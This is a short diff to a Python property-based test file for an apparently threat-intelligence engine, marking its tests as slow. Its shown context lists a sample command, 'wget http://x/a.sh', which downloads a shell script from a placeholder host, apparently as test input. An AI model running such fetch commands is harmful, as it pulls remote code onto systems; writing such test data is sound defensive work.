@@ -6,10 +6,14 @@ and `ipv4_is_in_any_range`, `parse_user_agent`, `geo_info_from_ip_address`,
 
 from __future__ import annotations
 
+import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from ctirealm.engine import EngineError, LocalEngine
+
+# Slow: property tests of whole constructs against their definitions.
+pytestmark = pytest.mark.slow
 
 LINES = [
     "wget http://x/a.sh",
